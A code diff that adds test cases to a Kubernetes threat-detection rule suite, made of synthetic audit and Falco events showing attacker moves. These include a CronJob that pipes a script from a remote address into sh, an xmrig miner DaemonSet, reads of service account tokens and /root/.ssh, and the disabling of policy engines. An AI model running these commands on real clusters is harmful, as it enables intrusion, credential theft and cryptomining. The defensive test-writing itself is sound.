@@ -3,6 +3,7 @@
  * write when the thing the rule is about happens, with the level the rule must reach at least.
  */
 import type { Level } from '../../../src/schema/alert.ts';
+import { wave3Cases } from './attacks-wave3.ts';
 import {
   type Actor,
   audit,
@@ -30,6 +31,8 @@ export interface RuleCase {
   level: Level;
   title: string;
   events: Json[];
+  /** Values of rule placeholders the trace needs (`klaxon replay --placeholder`). */
+  placeholders?: Record<string, string[]>;
 }
 
 const mallory = user('mallory@example.com', '203.0.113.45');
@@ -62,8 +65,20 @@ export function ruleCases(): RuleCase[] {
   const cases: RuleCase[] = [];
   // A log is written in event-time order (stageTimestamp for audit events, time for Falco alerts).
   const timeOf = (e: Json) => Date.parse(String(e.stageTimestamp ?? e.time));
-  const add = (rule: string, level: Level, title: string, events: Json[]) =>
-    cases.push({ rule, level, title, events: [...events].sort((a, b) => timeOf(a) - timeOf(b)) });
+  const add = (
+    rule: string,
+    level: Level,
+    title: string,
+    events: Json[],
+    placeholders?: Record<string, string[]>,
+  ) =>
+    cases.push({
+      rule,
+      level,
+      title,
+      events: [...events].sort((a, b) => timeOf(a) - timeOf(b)),
+      placeholders,
+    });
 
   add('k8s-resource-activity', 'informational', 'a developer creates a Deployment', [
     audit({
@@ -727,5 +742,407 @@ export function ruleCases(): RuleCase[] {
       'web-7d9f8c6b5-x2x4q',
     ),
   ]);
+  cases.push(...wave3Cases());
+
+  // Detection wave 2 (issue 17).
+  const refusedBy = (message: string, code = 403) => ({
+    code,
+    reason: code === 403 ? 'Forbidden' : code === 422 ? 'Invalid' : 'BadRequest',
+    message,
+    annotations: {
+      'authorization.k8s.io/decision': 'allow',
+      'authorization.k8s.io/reason':
+        'RBAC: allowed by RoleBinding "dev/payments" of ClusterRole "edit" to Group "developers"',
+      'pod-security.kubernetes.io/enforce-policy': 'baseline:latest',
+    },
+  });
+  const privilegedPod = (name: string, ns: string) => ({
+    kind: 'Pod',
+    apiVersion: 'v1',
+    metadata: meta(name, ns),
+    spec: podSpec([container(name, 'docker.io/library/alpine:3.19', { privileged: true })], {
+      hostPID: true,
+    }),
+  });
+  const blockedPod = (at: number, ns: string, name: string) =>
+    audit({
+      at,
+      actor: mallory,
+      verb: 'create',
+      ref: { resource: 'pods', namespace: ns, name },
+      query: 'fieldManager=kubectl-run',
+      requestObject: privilegedPod(name, ns),
+      ...refusedBy(
+        `pods "${name}" is forbidden: violates PodSecurity "baseline:latest": host namespaces (hostPID=true), privileged (container "${name}" must not set securityContext.privileged=true)`,
+      ),
+    });
+  add('k8s-privileged-workload-blocked', 'low', 'Pod Security refuses a privileged hostPID pod', [
+    blockedPod(at(0), 'payments', 'pwn'),
+  ]);
+  add('k8s-pod-security-denied', 'low', 'enforce mode refuses a pod', [blockedPod(at(0), 'shop', 'nsenter')]);
+  const rbacRefused = (when: number, name: string) =>
+    audit({
+      at: when,
+      actor: mallory,
+      verb: 'create',
+      ref: { resource: 'clusterrolebindings', name },
+      requestObject: {
+        kind: 'ClusterRoleBinding',
+        apiVersion: 'rbac.authorization.k8s.io/v1',
+        metadata: { name },
+        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
+        subjects: [{ kind: 'User', name: 'mallory@example.com' }],
+      },
+      code: 403,
+      reason: 'Forbidden',
+      message: `clusterrolebindings.rbac.authorization.k8s.io "${name}" is forbidden: user "mallory@example.com" (groups=["developers" "system:authenticated"]) is attempting to grant RBAC permissions not currently held:\n{APIGroups:["*"], Resources:["*"], Verbs:["*"]}`,
+    });
+  add('k8s-rbac-grant-blocked', 'low', 'the escalation check refuses a cluster-admin binding', [
+    rbacRefused(at(0), 'backdoor'),
+  ]);
+  add('k8s-blocked-attempts-repeated', 'medium', 'three refused attempts by one person in ten minutes', [
+    blockedPod(at(0), 'payments', 'pwn'),
+    blockedPod(at(4), 'shop', 'pwn2'),
+    rbacRefused(at(9), 'backdoor'),
+  ]);
+
+  add('k8s-cronjob-created-or-modified', 'medium', 'a stolen token creates a CronJob', [
+    audit({
+      at: at(0),
+      actor: stolen,
+      verb: 'create',
+      ref: { resource: 'cronjobs', namespace: 'default' },
+      requestObject: workload(
+        'CronJob',
+        'logrotate',
+        'default',
+        podSpec([
+          container('logrotate', 'docker.io/curlimages/curl:8.5.0', undefined, {
+            command: ['sh', '-c', 'curl -s http://203.0.113.200/x.sh | sh'],
+          }),
+        ]),
+      ),
+    }),
+  ]);
+  add('k8s-daemonset-created', 'medium', 'a developer creates a DaemonSet', [
+    audit({
+      at: at(0),
+      actor: mallory,
+      verb: 'create',
+      ref: { resource: 'daemonsets', namespace: 'monitoring' },
+      requestObject: workload(
+        'DaemonSet',
+        'node-cache',
+        'monitoring',
+        podSpec([container('cache', 'docker.io/xmrig/xmrig:6.21.0')], {
+          tolerations: [{ operator: 'Exists' }],
+        }),
+      ),
+    }),
+  ]);
+  add('k8s-mirror-pod-impersonation', 'high', 'a fake kube-apiserver mirror pod from a stolen token', [
+    audit({
+      at: at(0),
+      actor: stolen,
+      verb: 'create',
+      ref: { resource: 'pods', namespace: 'kube-system' },
+      requestObject: {
+        kind: 'Pod',
+        apiVersion: 'v1',
+        metadata: {
+          name: 'kube-apiserver-ip-10-0-11-21.eu-west-1.compute.internal',
+          namespace: 'kube-system',
+          annotations: { 'kubernetes.io/config.mirror': '5b2d6c0c', 'kubernetes.io/config.source': 'file' },
+        },
+        spec: podSpec([container('kube-apiserver', 'docker.io/mallory/kube-apiserver:v1.30.1')], {
+          nodeName: 'ip-10-0-11-21.eu-west-1.compute.internal',
+        }),
+      },
+    }),
+  ]);
+  add(
+    'k8s-exec-serviceaccount-token-read',
+    'high',
+    'kubectl exec cat of the service account token',
+    execSession(
+      mallory,
+      'payments',
+      'payments-api-7d9f8c6b5-x2x4q',
+      at(0),
+      'cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken',
+    ),
+  );
+  add(
+    'k8s-kubectl-cp-from-pod',
+    'medium',
+    'kubectl cp of a database dump',
+    execSession(
+      alice,
+      'data',
+      'postgres-0',
+      at(0),
+      'tar&command=cf&command=-&command=%2Fbackups%2Fnightly.sql',
+    ),
+  );
+  add(
+    'k8s-kubectl-cp-sensitive-files',
+    'high',
+    'kubectl cp of /root/.ssh',
+    execSession(mallory, 'data', 'postgres-0', at(0), 'tar&command=cf&command=-&command=%2Froot%2F.ssh'),
+  );
+
+  add('k8s-rbac-node-proxy-role', 'high', 'a ClusterRole granting nodes/proxy', [
+    audit({
+      at: at(0),
+      actor: mallory,
+      verb: 'create',
+      ref: { resource: 'clusterroles' },
+      requestObject: roleBody('node-debugger', [
+        { apiGroups: [''], resources: ['nodes', 'nodes/proxy'], verbs: ['get', 'create'] },
+      ]),
+    }),
+  ]);
+  add('k8s-privileged-role-binding', 'high', 'a ClusterRoleBinding to edit for the default service account', [
+    audit({
+      at: at(0),
+      actor: mallory,
+      verb: 'create',
+      ref: { resource: 'clusterrolebindings' },
+      requestObject: {
+        kind: 'ClusterRoleBinding',
+        apiVersion: 'rbac.authorization.k8s.io/v1',
+        metadata: { name: 'ci-edit' },
+        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'edit' },
+        subjects: [{ kind: 'ServiceAccount', name: 'default', namespace: 'default' }],
+      },
+    }),
+  ]);
+  const tokenSecret = (who: Actor, ns: string, sa: string) =>
+    audit({
+      at: at(0),
+      actor: who,
+      verb: 'create',
+      ref: { resource: 'secrets', namespace: ns },
+      requestObject: {
+        kind: 'Secret',
+        apiVersion: 'v1',
+        type: 'kubernetes.io/service-account-token',
+        metadata: {
+          name: `${sa}-token`,
+          namespace: ns,
+          annotations: { 'kubernetes.io/service-account.name': sa },
+        },
+      },
+    });
+  add('k8s-long-lived-token-secret', 'medium', 'a person creates a token Secret for a CI account', [
+    tokenSecret(alice, 'ci', 'deployer'),
+  ]);
+  add('k8s-long-lived-token-secret-privileged', 'high', 'a token Secret for a kube-system controller', [
+    tokenSecret(mallory, 'kube-system', 'clusterrole-aggregation-controller'),
+  ]);
+
+  const secretDenied = (when: number, name: string) =>
+    forbidden({
+      at: when,
+      actor: stolen,
+      verb: 'get',
+      ref: { resource: 'secrets', namespace: 'payments', name },
+    });
+  add('k8s-secret-access-denied', 'low', 'a stolen token refused a secret', [
+    secretDenied(at(0), 'stripe-api'),
+  ]);
+  add(
+    'k8s-secret-access-denied-burst',
+    'high',
+    'a stolen token refused on six secrets',
+    ['db', 'stripe', 'smtp', 'jwt', 'oauth', 'redis'].map((n, i) =>
+      secretDenied(at(0, i * 30), `${n}-credentials`),
+    ),
+  );
+  add('k8s-anonymous-request-denied', 'low', 'an internet scanner lists secrets anonymously', [
+    audit({
+      at: at(0),
+      actor: 'anonymous',
+      verb: 'list',
+      ref: { resource: 'secrets' },
+      code: 403,
+      reason: 'Forbidden',
+      message:
+        'secrets is forbidden: User "system:anonymous" cannot list resource "secrets" in API group "" at the cluster scope',
+      annotations: { 'authorization.k8s.io/decision': 'forbid', 'authorization.k8s.io/reason': '' },
+    }),
+  ]);
+  const kubeletCreds = { ...node('ip-10-0-12-34.eu-west-1.compute.internal', '198.18.7.44') };
+  add(
+    'k8s-system-identity-untrusted-network',
+    'high',
+    "a node's client certificate used with kubectl from outside",
+    [
+      audit({
+        at: at(0),
+        actor: { ...kubeletCreds, userAgent: 'kubectl/v1.30.2 (linux/amd64) kubernetes/3968350' },
+        verb: 'get',
+        ref: { resource: 'secrets', namespace: 'payments', name: 'stripe-api' },
+      }),
+    ],
+  );
+  add('k8s-node-traffic-untrusted-network', 'low', 'a kubelet renews its lease from a public NAT address', [
+    audit({
+      at: at(0),
+      actor: kubeletCreds,
+      verb: 'update',
+      ref: {
+        resource: 'leases',
+        namespace: 'kube-node-lease',
+        name: 'ip-10-0-12-34.eu-west-1.compute.internal',
+      },
+    }),
+  ]);
+  add(
+    'k8s-request-from-indicator-address',
+    'high',
+    'a stolen token used from a listed Tor exit node',
+    [
+      audit({
+        at: at(0),
+        actor: { ...stolen, sourceIPs: ['185.220.101.47'] },
+        verb: 'list',
+        ref: { resource: 'secrets', namespace: 'payments' },
+      }),
+    ],
+    { indicator_ips: ['185.220.101.0/24'] },
+  );
+
+  const deploymentWith = (name: string, spec: Json) =>
+    audit({
+      at: at(0),
+      actor: alice,
+      verb: 'create',
+      ref: { resource: 'deployments', namespace: 'shop' },
+      requestObject: workload('Deployment', name, 'shop', spec),
+    });
+  add('k8s-container-runs-as-root', 'low', 'a Deployment running as uid 0', [
+    deploymentWith('legacy', podSpec([container('legacy', 'ghcr.io/acme/legacy:4.1.0', { runAsUser: 0 })])),
+  ]);
+  add('k8s-container-without-resource-limits', 'low', 'a Deployment without limits', [
+    deploymentWith('cart', podSpec([container('cart', 'ghcr.io/acme/cart:2.4.1')])),
+  ]);
+  add('k8s-credential-literal-in-env', 'low', 'a literal DB_PASSWORD', [
+    deploymentWith(
+      'billing',
+      podSpec([
+        container('billing', 'ghcr.io/acme/billing:5.0.1', undefined, {
+          env: [{ name: 'DB_PASSWORD', value: 'Sup3rS3cret!' }],
+        }),
+      ]),
+    ),
+  ]);
+  add('k8s-secret-in-env-reference', 'informational', 'a secretKeyRef env', [
+    deploymentWith(
+      'cart',
+      podSpec([
+        container('cart', 'ghcr.io/acme/cart:2.4.1', undefined, {
+          env: [{ name: 'DB_PASSWORD', valueFrom: { secretKeyRef: { name: 'db', key: 'password' } } }],
+        }),
+      ]),
+    ),
+  ]);
+  add('k8s-default-serviceaccount-automount', 'low', 'a Deployment on the default service account', [
+    deploymentWith('web', podSpec([container('web', 'ghcr.io/acme/web:3.2.7')])),
+  ]);
+  add('k8s-admission-policy-denied', 'low', 'Gatekeeper denies a Deployment', [
+    audit({
+      at: at(0),
+      actor: alice,
+      verb: 'create',
+      ref: { resource: 'deployments', namespace: 'shop', name: 'web' },
+      code: 403,
+      reason: 'Forbidden',
+      message:
+        'admission webhook "validation.gatekeeper.sh" denied the request: [must-have-owner] you must provide labels: {"owner"}',
+    }),
+  ]);
+  add('k8s-image-signature-verification-failed', 'medium', 'Kyverno refuses an unsigned image', [
+    audit({
+      at: at(0),
+      actor: mallory,
+      verb: 'create',
+      ref: { resource: 'pods', namespace: 'shop', name: 'web' },
+      code: 400,
+      reason: 'BadRequest',
+      message:
+        'admission webhook "mutate.kyverno.svc-fail" denied the request: \n\nresource Pod/shop/web was blocked due to the following policies\n\nverify-image-signature:\n  verify-signature: \'failed to verify image ghcr.io/acme/web:3.2.8: .attestors[0].entries[0].keys: no matching signatures\'',
+    }),
+  ]);
+  add('k8s-policy-engine-tampering', 'high', 'Kyverno scaled to zero', [
+    audit({
+      at: at(0),
+      actor: mallory,
+      verb: 'patch',
+      ref: {
+        resource: 'deployments',
+        namespace: 'kyverno',
+        name: 'kyverno-admission-controller',
+        subresource: 'scale',
+      },
+      requestObject: { spec: { replicas: 0 } },
+    }),
+  ]);
+
+  add('falco-k8s-client-in-container', 'high', 'Falco sees kubectl run from /tmp in a web pod', [
+    falcoAlert(
+      at(0),
+      'Kubernetes client run in container by untrusted user',
+      'Warning',
+      'shop',
+      'web-7d9f8c6b5-x2x4q',
+      {
+        'proc.cmdline': 'kubectl get secrets -A',
+        'proc.exepath': '/tmp/kubectl',
+        'proc.name': 'kubectl',
+        'proc.pname': 'sh',
+      },
+    ),
+  ]);
+  add('falco-etcd-unexpected-connection', 'critical', 'Falco sees curl connect to etcd from a pod', [
+    falcoAlert(at(0), 'Unexpected connection to etcd', 'Critical', 'default', 'debug', {
+      'proc.cmdline': 'curl -k https://10.0.0.11:2379/v2/keys',
+      'proc.name': 'curl',
+      'fd.name': '10.244.1.7:51842->10.0.0.11:2379',
+    }),
+  ]);
+  add('k8s-gatekeeper-constraint-weakened', 'high', 'a Gatekeeper constraint switched to dryrun', [
+    audit({
+      at: at(0),
+      actor: mallory,
+      verb: 'patch',
+      ref: {
+        resource: 'k8spspprivilegedcontainer',
+        name: 'psp-privileged-container',
+        apiGroup: 'constraints.gatekeeper.sh',
+        apiVersion: 'v1beta1',
+      },
+      requestObject: { spec: { enforcementAction: 'dryrun' } },
+    }),
+  ]);
+  add(
+    'k8s-admission-policy-audit-failure',
+    'low',
+    'a ValidatingAdmissionPolicy in Audit mode records a failure',
+    [
+      audit({
+        at: at(0),
+        actor: alice,
+        verb: 'create',
+        ref: { resource: 'deployments', namespace: 'shop', name: 'web' },
+        annotations: {
+          'authorization.k8s.io/decision': 'allow',
+          'authorization.k8s.io/reason': '',
+          'validation.policy.admission.k8s.io/validation_failure':
+            '[{"message":"failed expression: object.spec.replicas <= 5","policy":"replica-limit.example.com","binding":"replica-limit-binding.example.com","expressionIndex":0,"validationActions":["Audit"]}]',
+        },
+      }),
+    ],
+  );
   return cases;
 }
